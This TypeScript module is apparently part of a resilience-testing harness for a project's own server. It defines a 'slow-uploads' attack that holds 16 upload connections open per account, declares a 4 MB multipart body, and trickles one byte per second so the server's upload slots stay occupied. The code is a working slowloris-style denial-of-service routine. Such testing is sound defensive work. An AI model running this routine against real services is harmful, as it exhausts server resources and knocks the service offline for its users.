/** Uploads of each account, more than it has slots for, that go on at a few bytes a second. */
import type { Socket } from 'node:net';
import { API_BASE } from '@tern/protocol';
import { CALLS } from '@tern/protocol/calls';
import type { Attack } from '../target.ts';

const PER_ACCOUNT = 16;
const PART =
  '--x\r\ncontent-disposition: form-data; name="file"; filename="a.png"\r\ncontent-type: image/png\r\n\r\n';

export const slowUploads: Attack = {
  name: 'slow-uploads',
  begin(target) {
    const open = new Set<Socket>();
    for (const [index, { token, userId }] of target.accounts.entries())
      for (let count = 0; count < PER_ACCOUNT; count++)
        target.keepOpen(index, (socket) => {
          socket.write(
            `POST ${API_BASE}${CALLS.uploadImage.path} HTTP/1.1\r\nhost: x\r\ntoken: ${token}\r\nuserid: ${userId}\r\n` +
              `content-type: multipart/form-data; boundary=x\r\ncontent-length: 4000000\r\n\r\n${PART}`,
          );
          open.add(socket);
          socket.once('close', () => open.delete(socket));
        });
    target.every(1, () => {
      for (const socket of open) socket.write('x');
    });
  },
};
